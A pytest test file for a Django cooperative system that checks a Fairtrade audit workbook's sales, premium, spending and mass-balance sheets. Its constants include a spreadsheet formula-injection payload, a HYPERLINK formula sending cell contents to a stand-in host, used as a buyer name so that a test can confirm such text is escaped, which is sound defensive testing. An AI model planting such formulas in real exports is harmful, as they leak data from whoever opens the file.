"""The Fairtrade reporting workbook: what a FLOCERT auditor reads, against the ledger and the fund page.

The 2020 season of tests.ledger.factories: a 25 t Fairtrade + organic contract paid in full
(US$ 6,000.00 of premium), US$ 5,000.00 sold for S/ 17,500.00. Added here: an un-invoiced
Fairtrade contract whose buyer's name is a formula, a conventional contract paid in two
parts at two rates, a Development Plan with paid, pending, reversed and rejected spending,
a draft line, and a line of another season that must stay out of the 2020 report.
"""

import io
import re
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.db.models import Sum
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from certification.fairtrade_report import SHEETS, fairtrade_workbook
from fund.models import PremiumCategory, Spending, SpendingStatus
from fund.selectors import fund_position, fund_report
from fund.services import (
    approve_spending,
    authorize_budget_lines,
    draft_budget_line,
    register_spending,
    reject_spending,
    reverse_spending,
)
from sales.models import ExchangeRate, FairtradeTerms, SalesContract, TermsComponent
from sales.selectors import contracts_to_review, mass_balance
from sales.services import amend_contract, fix_contract_price, invoice_contract, receive_payment
from tests.ledger.factories import activity, contract, fund_with_soles
from tests.terms import reload_published_fairtrade_terms
from toolkit.money import from_minor

D = Decimal
RUC = "20131312955"
EVIL_BUYER = '=HYPERLINK("http://evil.example/?x="&A1;"Ver contrato")'
EVIL_SUPPLIER = "@SUM(A1:A9)"
DECISION = "Asamblea General Ordinaria del 10/07/2020, acuerdo 4"
MADE_AT = timezone.make_aware(datetime(2026, 11, 20, 9, 30))

pytestmark = pytest.mark.django_db


def pay(fund, spending):
    approve_spending(spending=spending, capacity="board", user=fund["board"])
    approve_spending(spending=spending, capacity="treasurer", user=fund["treasurer"])
    spending.refresh_from_db()
    return spending


def spend(fund, line, amount, document, **overrides):
    arguments = {
        "line": line,
        "amount": amount,
        "supplier": "Ferretería El Constructor SAC",
        "ruc": RUC,
        "document": document,
        "document_date": date(2020, 7, 15),
        "description": "Materiales",
        "user": fund["admin"],
    }
    arguments.update(overrides)
    return register_spending(**arguments)


@pytest.fixture
def coop(make_user):
    fund = fund_with_soles(make_user)
    admin = fund["admin"]
    # Fairtrade only, not invoiced yet: US$ 1,200.00 of premium still to come.
    contract(fund, number="CV-2020-002", buyer=EVIL_BUYER, terms="ft", tonnes="5", contract_price=D("2500"))
    # Conventional, paid in two parts at two rates.
    ExchangeRate.objects.create(date=date(2020, 7, 1), buy=D("3.5100"), sell=D("3.5200"))
    ExchangeRate.objects.create(date=date(2020, 8, 3), buy=D("3.5500"), sell=D("3.5600"))
    conventional = contract(
        fund,
        number="CV-2020-003",
        buyer="Agroexportadora San Martín SA",
        terms="conv",
        tonnes="2",
        contract_price=D("2100"),
    )
    conventional = invoice_contract(
        contract=conventional, invoice_number="F001-000046", on=date(2020, 6, 20), user=admin
    )
    receive_payment(
        contract=conventional, amount="2000", reference="BCP-OP-7790", on=date(2020, 7, 1), user=admin
    )
    receive_payment(
        contract=conventional, amount="2200", reference="BCP-OP-7801", on=date(2020, 8, 3), user=admin
    )

    season = fund["season"]
    dryer = draft_budget_line(
        season=season,
        purpose="Secadora solar",
        category=PremiumCategory.ORGANISATION,
        amount="10000",
        **activity(),
        user=admin,
    )
    training = draft_budget_line(
        season=season,
        purpose="Capacitación en poda",
        category=PremiumCategory.MEMBER_SERVICES,
        amount="3000",
        **activity(),
        user=admin,
    )
    draft = draft_budget_line(
        season=season,
        purpose="Reparto en efectivo 2020",
        category=PremiumCategory.CASH_TO_MEMBERS,
        amount="1000",
        **activity(),
        user=admin,
    )
    authorize_budget_lines(
        lines=[dryer, training], decision=DECISION, decided_on=date(2020, 7, 10), user=admin
    )
    pay(fund, spend(fund, dryer, "2500", "F001-000321"))
    spend(fund, dryer, "1000", "F001-000500")  # awaits the second signature
    reversed_one = pay(fund, spend(fund, dryer, "500", "F001-000600"))
    reverse_spending(spending=reversed_one, reason="El proveedor devolvió el pago", user=admin)
    pay(fund, spend(fund, training, "1200", "F001-000700", supplier=EVIL_SUPPLIER))
    rejected = spend(fund, training, "300", "F001-000800")
    reject_spending(spending=rejected, reason="Proforma sin firma", user=fund["treasurer"])

    # Another season's plan: in the fund, not in the 2020 report.
    other = fund["seasons"]["2025"]
    nursery = draft_budget_line(
        season=other,
        purpose="Vivero 2025",
        category=PremiumCategory.MEMBER_SERVICES,
        amount="400",
        **activity(),
        user=admin,
    )
    authorize_budget_lines(
        lines=[nursery],
        decision="Asamblea del 01/03/2025, acuerdo 2",
        decided_on=date(2025, 3, 1),
        user=admin,
    )
    pay(fund, spend(fund, nursery, "100", "F001-000900", document_date=date(2025, 4, 1)))
    return {**fund, "lines": {"dryer": dryer, "training": training, "draft": draft}}


@pytest.fixture
def book(coop):
    return load_workbook(io.BytesIO(fairtrade_workbook(coop["season"], made_at=MADE_AT)))


# --- Reading the workbook back ---------------------------------------------------------


def block(ws, heading: str) -> list[list]:
    """The cells under a heading (its notes skipped) down to the next empty row."""
    rows = list(ws.iter_rows())
    starts = [
        i for i, row in enumerate(rows) if isinstance(row[0].value, str) and row[0].value.startswith(heading)
    ]
    assert len(starts) == 1, f"{ws.title}: heading «{heading}» found {len(starts)} times"
    i = starts[0] + 1
    while i < len(rows) and rows[i][0].font.italic:
        i += 1
    found = []
    while i < len(rows) and any(cell.value is not None for cell in rows[i]):
        found.append(list(rows[i]))
        i += 1
    return found


def table(ws, heading: str) -> list[dict]:
    header, *body = block(ws, heading)
    names = [cell.value for cell in header]
    # Empty cells are left out, so a missing key means the sheet shows nothing there.
    return [
        {name: cell.value for name, cell in zip(names, row, strict=False) if name and cell.value is not None}
        for row in body
    ]


def row_of(rows: list[dict], first_column: str, value) -> dict:
    matches = [row for row in rows if row[first_column] == value]
    assert len(matches) == 1, f"{value!r}: {len(matches)} rows"
    return matches[0]


def pairs(ws, heading: str) -> dict:
    return {row[0].value: row[1].value for row in block(ws, heading)}


def money(value) -> Decimal:
    """A number cell read back (openpyxl gives int or float) as the exact amount it holds."""
    assert isinstance(value, int | float) and not isinstance(value, bool), value
    return D(str(value))


def soles(minor: int) -> Decimal:
    return from_minor(minor)


# --- «Ventas» ----------------------------------------------------------------------------


def test_sales_sheet_lists_every_contract_with_its_pricing_invoice_and_money_received(coop, book):
    rows = table(book["Ventas"], "Contratos de venta de la campaña")
    assert [r["N.º de contrato"] for r in rows] == [
        "CV-2020-001",
        "CV-2020-002",
        "CV-2020-003",
        "Total (3 contratos)",
    ]
    ft_org = row_of(rows, "N.º de contrato", "CV-2020-001")
    # The worked case of the domain notes: max(2,150, 2,400) + 300 = 2,700 US$/t; 25 t × 240 = 6,000 premium.
    assert ft_org["Condiciones"] == "Comercio Justo + Orgánico"
    assert ft_org["Fecha del contrato"] == datetime(2020, 5, 14)
    assert ft_org["Cantidad (kg)"] == 25_000
    prices = (
        "Precio del contrato (US$/t)",
        "Precio pagado (US$/t)",
        "Precio mínimo CJ aplicado (US$/t)",
        "Diferencial orgánico (US$/t)",
        "Prima CJ (US$/t)",
    )
    assert [money(ft_org[k]) for k in prices] == [D("2150"), D("2700"), D("2400"), D("300"), D("240")]
    assert money(ft_org["Valor (US$)"]) == D("67500.00")
    assert money(ft_org["Prima (US$)"]) == soles(coop["sale"].premium_cents) == D("6000.00")
    assert (ft_org["Factura"], ft_org["Fecha de factura"]) == ("F001-000045", datetime(2020, 6, 1))
    assert money(ft_org["Cobrado (US$)"]) == D("73500.00")
    assert money(ft_org["Cobrado (S/)"]) == D("251737.50")  # 73,500 × 3.4250
    assert money(ft_org["Tipo de cambio (S/ por US$)"]) == D("3.425")

    conventional = row_of(rows, "N.º de contrato", "CV-2020-003")
    assert not {"Precio mínimo CJ aplicado (US$/t)", "Prima CJ (US$/t)"} & set(conventional)
    assert money(conventional["Prima (US$)"]) == 0
    assert money(conventional["Cobrado (S/)"]) == D("14830.00")  # 2,000 × 3.51 + 2,200 × 3.55
    assert conventional["Tipo de cambio (S/ por US$)"] == "Varios: ver «Cobros»"

    total = rows[-1]
    contracts = SalesContract.objects.filter(season=coop["season"])
    assert total["Cantidad (kg)"] == 32_000
    stored_value = contracts.aggregate(t=Sum("value_cents"))["t"]
    assert money(total["Valor (US$)"]) == soles(stored_value) == D("84200.00")
    assert money(total["Prima (US$)"]) == D("7200.00")
    assert money(total["Cobrado (US$)"]) == D("77700.00")
    assert money(total["Cobrado (S/)"]) == D("266567.50")

    payments = table(book["Ventas"], "Cobros")
    assert [(p["Referencia"], p["Tipo de cambio (S/ por US$)"]) for p in payments[:-1]] == [
        ("BCP-OP-7781", 3.425),
        ("BCP-OP-7790", 3.51),
        ("BCP-OP-7801", 3.55),
    ]
    assert money(payments[-1]["Monto (S/)"]) == D("266567.50")
    assert money(payments[-1]["de ello prima (US$)"]) == D("6000.00")


def test_the_sales_and_premium_sheets_read_an_amended_and_a_fixed_contracts_version_in_force(coop):
    admin = coop["admin"]
    # A back-dated premium of 260 from 2020-01-01: CV-2020-002 (5 t Fairtrade, not invoiced) is amended.
    FairtradeTerms.objects.create(
        kind=TermsComponent.PREMIUM, valid_from=date(2020, 1, 1), amount=D("260"), source="Corrección"
    )
    review = next(r for r in contracts_to_review() if r.contract.number == "CV-2020-002")
    amend_contract(contract=review.contract, terms_rows=review.would.rows, on=date(2020, 7, 1), user=admin)
    # A PTBF contract of 2 t Fairtrade fixed at 2,600 US$/t: premium 2 × 260.
    ptbf = contract(
        coop, number="CV-2020-004", terms="ft", tonnes="2", contract_price=None, price_to_be_fixed=True
    )
    fix_contract_price(
        contract=ptbf, market_price=D("2600"), ice_reference="ICE NY", on=date(2020, 9, 1), user=admin
    )
    book = load_workbook(io.BytesIO(fairtrade_workbook(coop["season"], made_at=MADE_AT)))
    rows = table(book["Ventas"], "Contratos de venta de la campaña")
    amended = row_of(rows, "N.º de contrato", "CV-2020-002")
    assert money(amended["Prima CJ (US$/t)"]) == D("260") and money(amended["Prima (US$)"]) == D("1300.00")
    assert amended["Condiciones CJ vigentes desde"] == datetime(2020, 1, 1)
    fixed = row_of(rows, "N.º de contrato", "CV-2020-004")
    assert [money(fixed[k]) for k in ("Precio del contrato (US$/t)", "Precio pagado (US$/t)")] == [
        D("2600"),
        D("2600"),
    ]
    assert money(fixed["Valor (US$)"]) == D("5200.00") and money(fixed["Prima (US$)"]) == D("520.00")
    premium = table(book["Prima"], "Prima por contrato")
    assert money(row_of(premium, "N.º de contrato", "CV-2020-002")["Prima del contrato (US$)"]) == D(
        "1300.00"
    )


def test_money_is_written_as_exact_two_place_numbers_not_text(book):
    sheet = book["Ventas"]
    header = next(row for row in sheet.iter_rows() if row[0].value == "N.º de contrato")
    value_column = next(cell.column for cell in header if cell.value == "Valor (US$)")
    below = sheet.iter_rows(min_row=header[0].row + 1, max_row=header[0].row + 4)
    cells = [row[value_column - 1] for row in below]
    assert [c.data_type for c in cells] == ["n"] * 4
    assert {c.number_format for c in cells} == {"#,##0.00"}


# --- «Prima» -----------------------------------------------------------------------------


def test_premium_sheet_gives_each_contracts_premium_and_the_fund_pages_figures(coop, book):
    sheet = book["Prima"]
    rows = table(sheet, "Prima por contrato")
    # Only contracts that carry premium; the conventional one has none.
    assert [r["N.º de contrato"] for r in rows] == ["CV-2020-001", "CV-2020-002", "Total (2 contratos)"]
    for row in rows[:-1]:
        stored = SalesContract.objects.get(number=row["N.º de contrato"])
        assert money(row["Prima del contrato (US$)"]) == soles(stored.premium_cents)
    paid, unpaid, total = rows
    assert (money(paid["Prima cobrada (US$)"]), money(paid["Prima por cobrar (US$)"])) == (D("6000"), 0)
    assert money(paid["Prima cobrada (S/)"]) == soles(coop["payment"].premium_pen_minor) == D("20550.00")
    assert "Factura" not in unpaid
    assert (money(unpaid["Prima del contrato (US$)"]), money(unpaid["Prima por cobrar (US$)"])) == (
        D("1200.00"),
        D("1200.00"),
    )
    assert money(total["Prima del contrato (US$)"]) == D("7200.00")

    # The season's row of the fund page, figure for figure.
    figures = next(f for f in fund_report().seasons if f.label == "Campaña 2020")
    season = pairs(sheet, "Prima de la campaña (Campaña 2020)")
    assert {label: money(value) for label, value in season.items()} == {
        "Prima recibida (US$)": soles(figures.received_usd_cents),
        "Equivalente al cobro (S/)": soles(figures.received_pen_minor),
        "Autorizado por la asamblea (S/)": soles(figures.authorized_minor),
        "Gastado, contabilizado (S/)": soles(figures.spent_minor),
        "Por aprobar (S/)": soles(figures.pending_minor),
        "Disponible en líneas (S/)": soles(figures.available_minor),
    }
    # 13,000 authorized; 2,500 + 1,200 posted (the reversed 500 and rejected 300 do not count); 1,000 pending.
    assert [money(v) for v in season.values()] == [
        D("6000"),
        D("20550"),
        D("13000"),
        D("3700"),
        D("1000"),
        D("8300"),
    ]

    position = fund_position()
    fund = pairs(sheet, "Fondo de la prima, todas las campañas, al 20/11/2026")
    assert money(fund["En dólares, por cambiar (US$)"]) == soles(position.usd_cents) == D("1000")
    # 17,500 less 2,500 + 1,200 (2020) and 100 (2025) paid.
    assert money(fund["En soles en el fondo (S/)"]) == soles(position.pen_minor) == D("13700")
    assert (
        money(fund["Autorizado por la asamblea, sin gastar (S/)"])
        == soles(position.authorized_unspent_minor)
        == D("9600")
    )
    assert money(fund["de ello por aprobar (S/)"]) == soles(position.pending_minor) == D("1000")
    assert (
        money(fund["Sin asignar, para el próximo plan (S/)"])
        == soles(position.unallocated_minor)
        == D("4100")
    )
    assert money(fund["Soles recibidos por el cambio (S/)"]) == D("17500")

    conversions = table(sheet, "Cambios de la prima a soles")
    assert [(c["Operación"], money(c["Soles (S/)"])) for c in conversions] == [
        ("CAMBIO-001", D("17500")),
        ("Total (1 operación)", D("17500")),
    ]


def test_the_available_premium_is_the_figure_the_fund_page_shows(coop, book, client):
    client.force_login(coop["treasurer"])
    page = client.get(reverse("fund:fund_overview")).content.decode()
    season_row = re.search(r"<tr><td>Campaña 2020</td>(.*?)</tr>", page, re.S).group(1)
    shown = re.findall(r"S/ [\d,]+\.\d\d", season_row)
    available = pairs(book["Prima"], "Prima de la campaña (Campaña 2020)")["Disponible en líneas (S/)"]
    assert shown[-1] == f"S/ {money(available):,.2f}" == "S/ 8,300.00"


# --- «Uso de la prima» -------------------------------------------------------------------------


def posted_minor(season, **filters) -> int:
    return (
        Spending.objects.filter(line__season=season, status=SpendingStatus.PAID, **filters).aggregate(
            t=Sum("amount_minor")
        )["t"]
        or 0
    )


def test_premium_use_by_category_counts_only_posted_spending(coop, book):
    sheet = book["Uso de la prima"]
    rows = table(sheet, "Por categoría, plan de desarrollo de la campaña (Campaña 2020)")
    assert [r["Categoría"] for r in rows] == [str(label) for label in PremiumCategory.labels] + ["Total"]
    for row, category in zip(rows, PremiumCategory.values, strict=False):
        posted = posted_minor(coop["season"], line__category=category)
        assert money(row["Gastado, contabilizado (S/)"]) == soles(posted)
    services, organisation, community, cash, total = rows
    columns = ("Autorizado (S/)", "Gastado, contabilizado (S/)", "Por aprobar (S/)", "Disponible (S/)")
    assert [money(organisation[k]) for k in columns] == [D("10000"), D("2500"), D("1000"), D("6500")]
    # The 2025 line (S/ 400.00, S/ 100.00 spent) belongs to another season's plan.
    assert [money(services[k]) for k in columns] == [D("3000"), D("1200"), 0, D("1800")]
    assert money(cash["Autorizado (S/)"]) == 0  # the cash line is still a draft
    assert money(total["Gastado, contabilizado (S/)"]) == soles(posted_minor(coop["season"])) == D("3700")
    assert money(total["Disponible (S/)"]) == D("8300")

    fund_wide = table(sheet, "Por categoría, todas las campañas")
    page = {f.label: f for f in fund_report().categories}
    for row in fund_wide[:-1]:
        assert money(row["Gastado, contabilizado (S/)"]) == soles(page[row["Categoría"]].spent_minor)
    assert money(fund_wide[0]["Gastado, contabilizado (S/)"]) == D("1300")  # 1,200 (2020) + 100 (2025)


def test_each_budget_line_and_spending_is_traced_to_its_assembly_decision(coop, book):
    sheet = book["Uso de la prima"]
    lines = table(sheet, "Por línea del plan de desarrollo")
    assert [line["Finalidad"] for line in lines] == [
        "Secadora solar",
        "Capacitación en poda",
        "Reparto en efectivo 2020",
        "Total (3 líneas)",
    ]
    dryer, training, draft, total = lines
    assert (dryer["Acuerdo de asamblea"], dryer["Fecha del acuerdo"]) == (DECISION, datetime(2020, 7, 10))
    assert [
        money(dryer[k])
        for k in ("Presupuestado (S/)", "Gastado, contabilizado (S/)", "Por aprobar (S/)", "Disponible (S/)")
    ] == [D("10000"), D("2500"), D("1000"), D("6500")]
    assert draft["Acuerdo de asamblea"] == "Borrador: falta acuerdo de asamblea"
    assert money(draft["Presupuestado (S/)"]) == D("1000") and money(draft["Autorizado (S/)"]) == 0
    assert "Disponible (S/)" not in draft  # nothing can be spent against a draft
    assert money(total["Presupuestado (S/)"]) == D("14000") and money(total["Autorizado (S/)"]) == D("13000")

    spendings = block(sheet, "Gastos y repartos")
    header = [cell.value for cell in spendings[0]]
    body = [dict(zip(header, (cell.value for cell in row), strict=False)) for row in spendings[1:]]
    by_document = {
        row["Comprobante"]: row
        for row in body
        if row["Comprobante"] and not row["Comprobante"].startswith("Total")
    }
    assert {doc: row["Estado"] for doc, row in by_document.items()} == {
        "F001-000321": "Aprobado y contabilizado",
        "F001-000500": "Pendiente de aprobación",
        "F001-000600": "Revertido",
        "F001-000700": "Aprobado y contabilizado",
        "F001-000800": "Rechazado",
    }
    assert all(row["Acuerdo de asamblea"] == DECISION for row in by_document.values())
    reversed_one = by_document["F001-000600"]
    assert reversed_one["Motivo del rechazo o de la reversión"] == "El proveedor devolvió el pago"
    assert isinstance(reversed_one["Asiento de reversión"], int)
    assert isinstance(by_document["F001-000321"]["Asiento"], int)
    totals = {
        row["Comprobante"]: money(row["Monto (S/)"])
        for row in body
        if (row["Comprobante"] or "").startswith("Total")
    }
    assert totals == {
        "Total aprobado y contabilizado (2)": D("3700"),
        "Total pendiente de aprobación (1)": D("1000"),
    }


# --- «Balance de masas» ----------------------------------------------------------------------


def test_mass_balance_sheet_is_the_sites_mass_balance(coop, book):
    rows = table(book["Balance de masas"], "Balance de masas de la campaña")
    expected = {line.product: line for line in mass_balance(coop["season"])}
    assert [r["Producto"] for r in rows] == ["Comercio Justo", "Orgánico"]
    for row in rows:
        line = expected[row["Producto"]]
        assert money(row["Comprado a los socios (kg, seco)"]) == line.bought_kg
        assert money(row["Vendido en contratos (kg)"]) == line.sold_kg
        assert money(row["Disponible (kg)"]) == line.available_kg
    fairtrade, organic = rows
    # Bought: Juana's 30 t dry (Fairtrade + organic) and Rosa's 10 t (Fairtrade). Sold: 25 t Fairtrade +
    # organic and 5 t Fairtrade; the conventional 2 t count in neither.
    assert [
        money(fairtrade[k])
        for k in ("Comprado a los socios (kg, seco)", "Vendido en contratos (kg)", "Disponible (kg)")
    ] == [40_000, 30_000, 10_000]
    assert [
        money(organic[k])
        for k in ("Comprado a los socios (kg, seco)", "Vendido en contratos (kg)", "Disponible (kg)")
    ] == [30_000, 25_000, 5_000]


# --- Every sheet -------------------------------------------------------------------------


def test_formula_like_text_is_written_as_text(book):
    every_cell = [
        cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]
    assert not [cell.coordinate for cell in every_cell if cell.data_type == "f"]
    buyers = [cell for cell in every_cell if EVIL_BUYER in str(cell.value)]
    assert {cell.parent.title for cell in buyers} == {"Ventas", "Prima"}
    assert {cell.value for cell in buyers} == {"'" + EVIL_BUYER}
    suppliers = [cell.value for cell in every_cell if EVIL_SUPPLIER in str(cell.value)]
    assert suppliers == ["'" + EVIL_SUPPLIER]


def test_each_sheet_names_the_cooperative_season_date_and_version(coop, settings):
    settings.MINKA_COOP_NAME = "Cooperativa Agraria Cacaotera Chazuta Ltda."
    settings.MINKA_VERSION = "9.9.9"
    book = load_workbook(io.BytesIO(fairtrade_workbook(coop["season"], made_at=MADE_AT)))
    assert book.sheetnames == list(SHEETS) == ["Ventas", "Prima", "Uso de la prima", "Balance de masas"]
    for sheet in book:
        assert sheet["A1"].value == f"Informe de Comercio Justo: {sheet.title}"
        assert {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2, max_row=6)} == {
            "Cooperativa": "Cooperativa Agraria Cacaotera Chazuta Ltda.",
            "Campaña": "Campaña 2020 (código 2020)",
            "Periodo": "del 01/01/2020 al 31/12/2020",
            "Elaborado el": "20/11/2026 09:30",
            "Versión de Minka": "9.9.9",
        }


def test_another_seasons_report_leaves_2020_out(coop):
    book = load_workbook(io.BytesIO(fairtrade_workbook(coop["seasons"]["2025"], made_at=MADE_AT)))
    assert table(book["Ventas"], "Contratos de venta de la campaña") == [
        {
            "N.º de contrato": "Total (0 contratos)",
            "Cantidad (kg)": 0,
            "Valor (US$)": 0,
            "Prima (US$)": 0,
            "Cobrado (US$)": 0,
            "Cobrado (S/)": 0,
        }
    ]
    lines = table(book["Uso de la prima"], "Por línea del plan de desarrollo")
    assert [line["Finalidad"] for line in lines] == ["Vivero 2025", "Total (1 línea)"]
    assert money(lines[0]["Gastado, contabilizado (S/)"]) == D("100")


@pytest.mark.django_db(transaction=True)
def test_outside_a_transaction_the_workbook_is_read_in_one_snapshot(make_user):
    """The portal calls it with no transaction open: on PostgreSQL it then opens a repeatable-read one,
    whose isolation must be set before any other statement."""
    # An earlier committing test's flush emptied the table its data migration filled.
    reload_published_fairtrade_terms()
    fund = fund_with_soles(make_user)
    book = load_workbook(io.BytesIO(fairtrade_workbook(fund["season"])))
    premium = pairs(book["Prima"], "Prima de la campaña (Campaña 2020)")
    assert money(premium["Prima recibida (US$)"]) == D("6000")
    assert money(pairs(book["Prima"], "Fondo de la prima")["En soles en el fondo (S/)"]) == D("17500")


# --- The command -----------------------------------------------------------------------------


def test_command_writes_the_workbook(coop, tmp_path):
    target = tmp_path / "comercio_justo_2020.xlsx"
    out = io.StringIO()
    call_command("export_fairtrade", "--season", "2020", "-o", str(target), stdout=out)
    book = load_workbook(target)
    assert book.sheetnames == ["Ventas", "Prima", "Uso de la prima", "Balance de masas"]
    premium = pairs(book["Prima"], "Prima de la campaña (Campaña 2020)")
    assert money(premium["Prima recibida (US$)"]) == D("6000")
    assert f"exportado a {target}" in out.getvalue()


def test_command_refuses_an_unknown_season_and_writes_nothing(coop, tmp_path):
    target = tmp_path / "x.xlsx"
    with pytest.raises(CommandError) as refused:
        call_command("export_fairtrade", "--season", "1999", "-o", str(target))
    assert str(refused.value) == "No existe la campaña «1999». Campañas registradas: 2020, 2025, 2026."
    assert not target.exists()
